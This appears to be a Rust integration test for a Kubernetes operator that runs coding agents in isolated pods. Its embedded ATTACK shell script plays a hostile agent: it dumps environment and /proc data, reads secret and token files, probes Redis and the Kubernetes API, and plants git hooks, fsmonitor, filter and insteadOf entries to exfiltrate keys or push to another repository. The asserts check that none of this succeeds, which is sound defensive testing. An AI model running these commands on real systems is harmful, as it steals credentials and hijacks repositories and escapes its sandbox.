//! A hostile agent against the real runner pod, on a real control plane.
//!
//! The Job is what the operator builds (`job_for`), created in a namespace that enforces Pod
//! Security `restricted`; the real Job controller makes its pod, the real scheduler binds it, and
//! the test bed's kubelet runs each container as the pod spec says: its own mount and PID
//! namespaces, its own root with only its own volume mounts, its own uid. Redis has a password,
//! the git host checks credentials, and a second repository on the same host belongs to someone
//! else.
//!
//! The agent tries every trick we know to get the git token, the encryption key or the Redis
//! password, or to push somewhere else: it reads every path and `/proc` entry it can, scans
//! Redis, calls the API server, writes hooks, `pushurl`, `insteadOf`, `http.proxy`,
//! `core.sshCommand`, `ext::` remotes and filters into the tree, symlinks the tree's `.git` and
//! files to the runner's paths, forges hand-off frames, and prints base64 of everything it saw.
//! The test then proves that none of those secrets is in anything the agent could write (its
//! output in Redis, the pushed branch, every container's log), that nothing but the job's branch
//! changed on the git host, and that no hook ever ran.
//!
//! Needs `REPOBOX_K8S_ASSETS` and root (for the kubelet's isolation); otherwise it says
//! SKIPPED, loudly.

use std::collections::{BTreeMap, HashMap};
use std::time::Duration;

use base64::Engine;
use clap::Parser;
use k8s_openapi::api::batch::v1::Job;
use kube::api::{Api, PostParams};
use kube::runtime::wait::await_condition;
use kube::{Client, CustomResourceExt, ResourceExt};
use redis::AsyncCommands;
use repobox_contract::EncryptionKey;
use repobox_operator::config::Config;
use repobox_operator::decide::job_builder::job_for;
use repobox_operator::model::crd::RepoboxJob;
use repobox_operator::run::intake::repobox_job;
use repobox_testbed::bed::{self, BedBuilder, ClusterKind};
use repobox_testbed::forge::ForgeKind;
use repobox_testbed::githost::GitHost;
use repobox_testbed::kubelet::{Kubelet, KubeletConfig, NodeSettings};
use repobox_testbed::redis_server::RedisServer;
use repobox_testbed::webapp::{self, NewJob};

const TOKEN: &str = "ghp_adversarialToken0123456789abcdef";
const KEY_HEX: &str = "a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9a";
const REDIS_PASSWORD: &str = "redis-pw-Zq8xY1w2";
const WAIT: Duration = Duration::from_secs(120);

/// The attacker: everything it finds goes to stdout as base64 (what a user reads back from
/// `job:{id}:output`) and into files in the tree (what gets pushed).
const ATTACK: &str = r#"
set +e
b64() { base64 -w0 2>/dev/null; echo; }
echo "== whoami: $(id)"
echo "== env"; env | b64
echo "== files"
for f in /var/run/secrets/repobox/encryption-key/* /var/run/secrets/kubernetes.io/serviceaccount/token \
         /var/lib/repobox/repo.git/config /work/repo.git/config /proc/1/environ /proc/self/environ \
         /etc/shadow /root/.git-credentials /tmp/*; do
  echo "-- $f"; cat "$f" 2>&1 | b64
done
echo "== proc"
for p in /proc/[0-9]*; do
  echo "-- $p $(cat $p/cmdline 2>/dev/null | tr '\0' ' ')"
  cat "$p/environ" 2>/dev/null | b64
done
echo "== find secrets"
find / -xdev \( -name 'key' -o -name 'token' -o -name '*.pem' -o -name 'config' \) 2>/dev/null \
  | grep -v -e '^/proc' -e '^/usr' -e '^/etc' | head -50
echo "== redis"
redis-cli -h 127.0.0.1 -p "$REDIS_PORT" --scan 2>&1 | head -5
redis-cli -h 127.0.0.1 -p "$REDIS_PORT" KEYS '*' 2>&1 | head -5
echo "== kubernetes api"
curl -sk --max-time 5 "https://${KUBERNETES_SERVICE_HOST:-127.0.0.1}:${KUBERNETES_SERVICE_PORT:-443}/api/v1/namespaces/$NS/secrets" 2>&1 | head -c 400; echo

echo "== git steering"
mkdir -p .git/hooks hooks sub
for h in pre-commit prepare-commit-msg commit-msg post-commit pre-push reference-transaction post-checkout; do
  for d in .git/hooks hooks; do
    printf '#!/bin/sh\nredis-cli -u "$REDIS_URL" SET pwned:hook 1\ncat /var/run/secrets/repobox/encryption-key/* > /work/tree/STOLEN_KEY\nenv > /work/tree/STOLEN_ENV\n' > "$d/$h"
    chmod +x "$d/$h"
  done
done
cat > .git/config <<EOF
[core]
	hooksPath = hooks
	fsmonitor = "sh -c 'env > /work/tree/STOLEN_FSMON'"
	sshCommand = sh -c 'env > /work/tree/STOLEN_SSH'
[remote "origin"]
	url = $VICTIM_URL
	pushurl = $VICTIM_URL
[url "$VICTIM_URL"]
	insteadOf = $REPO_URL
	pushInsteadOf = $REPO_URL
[http]
	proxy = http://127.0.0.1:9
	sslVerify = false
[protocol "ext"]
	allow = always
[filter "evil"]
	clean = sh -c 'env > /work/tree/STOLEN_FILTER; cat'
EOF
echo '* filter=evil' > .gitattributes
# A nested repository whose own config asks for an fsmonitor (set after its commit, so only
# someone else's git would run it).
(cd sub && git init -q . && echo s > s && git add s && git -c user.name=a -c user.email=a@b commit -qm s \
  && git config core.fsmonitor "sh -c 'env > /work/tree/STOLEN_SUBFSMON'" \
  && printf '#!/bin/sh\nenv > /work/tree/STOLEN_SUBHOOK\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit) 2>&1 | tail -1
ln -s /var/run/secrets/repobox/encryption-key keylink
ln -s /var/lib/repobox privlink
ln -s /proc/1/environ environ-link
echo "== hand-off"
ls -la /work/handoff 2>&1
cat /work/handoff/start.json 2>&1 | b64
echo "legit change" > CHANGE.md
# Last: a forged frame straight into the hand-off FIFO.
printf '{"t":"line","s":"forged frame"}\n' > /work/handoff/agent.fifo
exit 0
"#;

/// Every way a secret could show up in text: as is, and inside any base64 token (decoded).
fn assert_no_secret(what: &str, text: &str) {
    let secrets = [TOKEN, KEY_HEX, REDIS_PASSWORD];
    let mut views = vec![text.to_owned()];
    for token in text.split(|c: char| c.is_whitespace() || c == '"' || c == ',') {
        if token.len() >= 8
            && let Ok(bytes) = base64::engine::general_purpose::STANDARD.decode(token)
        {
            views.push(String::from_utf8_lossy(&bytes).into_owned());
        }
    }
    for view in &views {
        for s in secrets {
            assert!(!view.contains(s), "a secret reached {what}");
        }
    }
}

struct Bed {
    client: Client,
    ns: String,
    /// This test's Node: its pods go there (tests share the control plane, not kubelets).
    node: String,
    kubelet: Kubelet,
    redis: RedisServer,
    git: GitHost,
    key: EncryptionKey,
}

async fn bed(test: &str) -> Option<Bed> {
    let node = format!("adversarial-{test}");
    let built = BedBuilder::new(ClusterKind::SharedControlPlane, TOKEN, KEY_HEX)
        .kubelet(KubeletConfig {
            nodes: vec![NodeSettings::new(&node)],
            max_grace_period: Some(Duration::from_secs(5)),
            heartbeat_interval: Duration::from_secs(5),
            ..KubeletConfig::default()
        })
        .namespace("adversarial")
        .create_namespace(&[
            ("pod-security.kubernetes.io/enforce", "restricted"),
            ("pod-security.kubernetes.io/enforce-version", "v1.28"),
        ])
        .crd(RepoboxJob::crd())
        .timeout(WAIT)
        .redis_password(REDIS_PASSWORD)
        .forge(ForgeKind::GitHub)
        .repo("acme/api", &[("README.md", "# api\n")])
        .repo("victim/other", &[("README.md", "# someone else's\n")])
        .runner_secrets()
        .runner_service_account()
        .start()
        .await
        .expect("test bed")?;
    let bed::Bed {
        ns,
        key,
        redis,
        git,
        client,
        kubelet,
        ..
    } = built;
    let kubelet = kubelet.expect("the bed runs a kubelet");
    if !kubelet.isolates() {
        eprintln!(
            "SKIPPED: the adversarial agent suite needs root for per-container isolation \
             (mount/PID namespaces, run-as users); it proves nothing without it"
        );
        return None;
    }
    Some(Bed {
        client,
        ns,
        node,
        kubelet,
        redis,
        git,
        key,
    })
}

impl Bed {
    /// Seeds the job as the web app would, creates its RepoboxJob and the Job the operator
    /// would build for it, and waits until the real Job controller says it ended.
    async fn run(&self, id: &str, agent: &str, extra_env: &BTreeMap<String, String>) -> Job {
        let mut con = self.redis.connection().await;
        let job = NewJob::new(id, "mallory", &self.git.url("acme/api"), "Do evil things");
        webapp::create_provider(
            &mut con,
            &job.user_id,
            &job.provider_id,
            &self.key,
            TOKEN,
            &self.git.base_url(),
        )
        .await
        .expect("provider");
        webapp::create_job(&mut con, &job).await.expect("job");

        let record: HashMap<String, String> = con.hgetall(format!("job:{id}")).await.unwrap();
        let rjs: Api<RepoboxJob> = Api::namespaced(self.client.clone(), &self.ns);
        let rj = rjs
            .create(
                &PostParams::default(),
                &repobox_job(id, &job.user_id, "1700000000000-0", &record),
            )
            .await
            .expect("RepoboxJob");
        let env_json = serde_json::to_string(extra_env).unwrap();
        let node_selector = serde_json::json!({"kubernetes.io/hostname": self.node}).to_string();
        let cfg = Config::try_parse_from([
            "repobox-operator",
            "--redis-url",
            "redis://unused",
            "--agent-command",
            agent,
            "--agent-extra-env",
            &env_json,
            "--allow-insecure-http",
            "true",
            "--cleanup-after-job",
            "false",
            "--runner-termination-grace-seconds",
            "3",
            "--runner-node-selector",
            &node_selector,
        ])
        .expect("config")
        .job_config()
        .expect("job config");
        let mut desired = job_for(&rj, &cfg).expect("job_for");
        desired.metadata.namespace = Some(self.ns.clone());
        let jobs: Api<Job> = Api::namespaced(self.client.clone(), &self.ns);
        let name = rj.name_any();
        jobs.create(&PostParams::default(), &desired)
            .await
            .expect("the restricted namespace admits the runner pod");
        tokio::time::timeout(
            WAIT,
            await_condition(jobs.clone(), &name, |j: Option<&Job>| {
                j.and_then(|j| j.status.as_ref())
                    .and_then(|s| s.conditions.as_ref())
                    .is_some_and(|cs| {
                        cs.iter().any(|c| {
                            (c.type_ == "Complete" || c.type_ == "Failed") && c.status == "True"
                        })
                    })
            }),
        )
        .await
        .expect("the Job ends")
        .expect("watch");
        jobs.get(&name).await.expect("job")
    }

    /// Every container log of the Job's pod (for failure messages).
    fn logs_of(&self, job: &Job) -> String {
        let history = self.kubelet.history();
        let pod = history.iter().find_map(|e| match e {
            repobox_testbed::kubelet::KubeletEvent::ContainerStarted { pod, .. }
                if pod.starts_with(&job.name_any()) =>
            {
                Some(pod.clone())
            }
            _ => None,
        });
        match pod {
            Some(pod) => ["install", "runner", "agent"]
                .iter()
                .map(|c| format!("--- {c}\n{}", self.kubelet.logs(&self.ns, &pod, c)))
                .collect::<Vec<_>>()
                .join("\n"),
            None => format!("no pod ran; kubelet history: {history:?}"),
        }
    }

    /// Everything the runner and the agent wrote to Redis for the job, and every other key.
    async fn redis_dump(&self) -> String {
        let mut con = self.redis.connection().await;
        let keys: Vec<String> = con.keys("*").await.unwrap();
        let mut all = String::new();
        for k in keys {
            let t: String = redis::cmd("TYPE")
                .arg(&k)
                .query_async(&mut con)
                .await
                .unwrap();
            let v = match t.as_str() {
                "hash" => {
                    let mut h: HashMap<String, String> = con.hgetall(&k).await.unwrap();
                    // The web app's own encrypted token is what it is.
                    h.remove("encryptedToken");
                    format!("{h:?}")
                }
                "list" => format!(
                    "{:?}",
                    con.lrange::<_, Vec<String>>(&k, 0, -1).await.unwrap()
                ),
                "string" => con.get::<_, String>(&k).await.unwrap(),
                _ => String::new(),
            };
            all.push_str(&format!("{k} {v}\n"));
        }
        all
    }
}

/// Every blob of every file in `rev` (symlinks as their target text).
fn tree_contents(repo: &std::path::Path, rev: &str) -> Vec<(String, String)> {
    let git = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .arg("--git-dir")
            .arg(repo)
            .args(args)
            .output()
            .expect("git");
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    git(&["ls-tree", "-r", "--full-tree", rev])
        .lines()
        .filter_map(|l| {
            let (meta, path) = l.split_once('\t')?;
            let sha = meta.split_whitespace().nth(2)?;
            Some((path.to_owned(), git(&["cat-file", "-p", sha])))
        })
        .collect()
}

#[tokio::test]
async fn a_hostile_agent_gets_no_secret_and_pushes_nowhere_else() {
    let Some(bed) = bed("all-tricks").await else {
        return;
    };
    let victim_before = bed.git.branches("victim/other");
    let victim_sha = bed.git.branch_sha("victim/other", "main");
    let env = BTreeMap::from([
        ("REDIS_PORT".to_owned(), bed.redis.port().to_string()),
        ("NS".to_owned(), bed.ns.clone()),
        ("VICTIM_URL".to_owned(), bed.git.url("victim/other")),
        ("REPO_URL".to_owned(), bed.git.url("acme/api")),
    ]);
    let id = "evil0001-all";
    let job = bed.run(id, ATTACK, &env).await;

    // The job's outcome says what happened: the agent's legit change was pushed.
    let mut con = bed.redis.connection().await;
    let record: HashMap<String, String> = con.hgetall(format!("job:{id}")).await.unwrap();
    let output: Vec<String> = con.lrange(format!("job:{id}:output"), 0, -1).await.unwrap();
    let output = output.join("\n");
    assert_eq!(record["status"], "success", "{record:?}\n{output}");
    assert!(
        job.status.as_ref().and_then(|s| s.succeeded) == Some(1),
        "{:?}",
        job.status
    );
    // The agent really ran, as its own user, and really tried.
    assert!(output.contains("== whoami: uid=65533"), "{output}");
    assert!(output.contains("== git steering"), "{output}");
    assert!(
        output.contains("NOAUTH") || output.contains("Authentication required"),
        "Redis refused the agent: {output}"
    );

    // 1. No secret in anything the agent could write or make the runner write.
    assert_no_secret(
        "the job output and every Redis key",
        &bed.redis_dump().await,
    );
    let pod = bed
        .kubelet
        .history()
        .iter()
        .find_map(|e| match e {
            repobox_testbed::kubelet::KubeletEvent::PodRunning { pod, .. }
                if pod.starts_with(&job.name_any()) =>
            {
                Some(pod.clone())
            }
            _ => None,
        })
        .expect("the pod ran");
    assert_no_secret("the pod's container logs", &bed.kubelet.pod_logs(&pod));
    let branch = "repobox/evil0001";
    let sha = bed
        .git
        .branch_sha("acme/api", branch)
        .expect("the job's branch was pushed");
    let files = tree_contents(&bed.git.repo_path("acme/api"), &sha);
    for (path, content) in &files {
        assert_no_secret(&format!("pushed file {path}"), content);
        assert!(
            !path.starts_with("STOLEN"),
            "a hook, filter or fsmonitor ran: {path}"
        );
    }
    assert!(
        files
            .iter()
            .any(|(p, c)| p == "CHANGE.md" && c == "legit change\n")
    );

    // 2. No hook ran in the runner's container (it would have reached Redis with its URL).
    let pwned: Option<String> = con.get("pwned:hook").await.unwrap();
    assert_eq!(pwned, None, "a hook ran with the runner's environment");

    // 3. Nothing but the job's branch changed on the git host.
    assert_eq!(bed.git.branches("victim/other"), victim_before);
    assert_eq!(bed.git.branch_sha("victim/other", "main"), victim_sha);
    let mut branches = bed.git.branches("acme/api");
    branches.sort();
    assert_eq!(branches, ["main", branch], "only the job's branch is new");
    for r in bed.git.requests() {
        assert!(
            r.path.starts_with("/acme/api.git/"),
            "a request went to another repository: {r:?}"
        );
    }
    // The API calls after the push concern the job's repository only, and nothing the agent
    // wrote carried a secret into the pull request.
    let forge = bed.git.forge().expect("forge double");
    for r in forge.requests() {
        assert!(
            r.path.starts_with("/api/v3/repos/acme/api"),
            "an API request about another repository: {r:?}"
        );
    }
    assert_no_secret(
        "the forge (requests and pull requests)",
        &format!("{:?}{:?}", forge.requests(), forge.pull_requests()),
    );
    assert!(
        bed.git
            .requests()
            .iter()
            .any(|r| r.authorized && r.path.ends_with("git-receive-pack"))
    );
}

#[tokio::test]
async fn the_agent_cannot_see_the_runner_at_all() {
    let Some(bed) = bed("probe").await else {
        return;
    };
    let probe = r#"
set +e
echo "uid=$(id -u) gid=$(id -g) groups=$(id -G)"
echo "procs: $(ls -d /proc/[0-9]* | wc -l)"
for p in /proc/[0-9]*; do cat $p/cmdline 2>/dev/null | tr '\0' ' '; echo; done > /tmp/cmdlines
echo "wrapper-procs: $(grep -c '[r]epobox-job-runner agent' /tmp/cmdlines)"
echo "runner-procs: $(grep -c '[r]epobox-job-runner *$' /tmp/cmdlines)"
for path in /var/run/secrets/repobox /var/lib/repobox /var/run/secrets/kubernetes.io /work/repo.git; do
  [ -e "$path" ] && echo "visible: $path" || echo "absent: $path"
done
env | grep -c -e '^REDIS' -e '^ENCRYPTION' -e '^JOB_ID=' -e '^RUNNER_ID=' | sed 's/^/runner-env: /'
touch /repobox/bin/x 2>/dev/null && echo "tools: writable" || echo "tools: read-only"
echo probe > PROBE.md
# The tree's `.git` pointing at where the runner keeps its git directory.
ln -s /var/lib/repobox/repo.git .git
"#;
    let id = "probe001-iso";
    let job = bed.run(id, probe, &BTreeMap::new()).await;
    let mut con = bed.redis.connection().await;
    let output: Vec<String> = con.lrange(format!("job:{id}:output"), 0, -1).await.unwrap();
    let output = output.join("\n");
    assert!(
        !output.is_empty(),
        "no output: {:?}\n{}",
        job.status,
        bed.logs_of(&job)
    );
    assert!(output.contains("uid=65533 gid=65533"), "{output}");
    assert!(
        output.contains("65532"),
        "the pod's fsGroup is a supplementary group: {output}"
    );
    // The wrapper and the agent's own processes are all it sees; the runner is not among them.
    assert!(
        output.contains("wrapper-procs: 1"),
        "its own wrapper: {output}"
    );
    assert!(
        output.contains("runner-procs: 0"),
        "never the runner: {output}"
    );
    for path in [
        "/var/run/secrets/repobox",
        "/var/lib/repobox",
        "/var/run/secrets/kubernetes.io",
    ] {
        assert!(
            output.contains(&format!("absent: {path}")),
            "{path}: {output}"
        );
    }
    assert!(output.contains("runner-env: 0"), "{output}");
    assert!(output.contains("tools: read-only"), "{output}");
    let record: HashMap<String, String> = con.hgetall(format!("job:{id}")).await.unwrap();
    assert_eq!(record["status"], "success", "{record:?}");
    // The `.git` symlink steered nothing: the runner's own git directory made the commit, and a
    // `.git` entry is never part of a tree.
    let sha = bed
        .git
        .branch_sha("acme/api", "repobox/probe001")
        .expect("pushed");
    let files: Vec<String> = tree_contents(&bed.git.repo_path("acme/api"), &sha)
        .into_iter()
        .map(|(p, _)| p)
        .collect();
    assert_eq!(files, ["PROBE.md", "README.md"]);
}
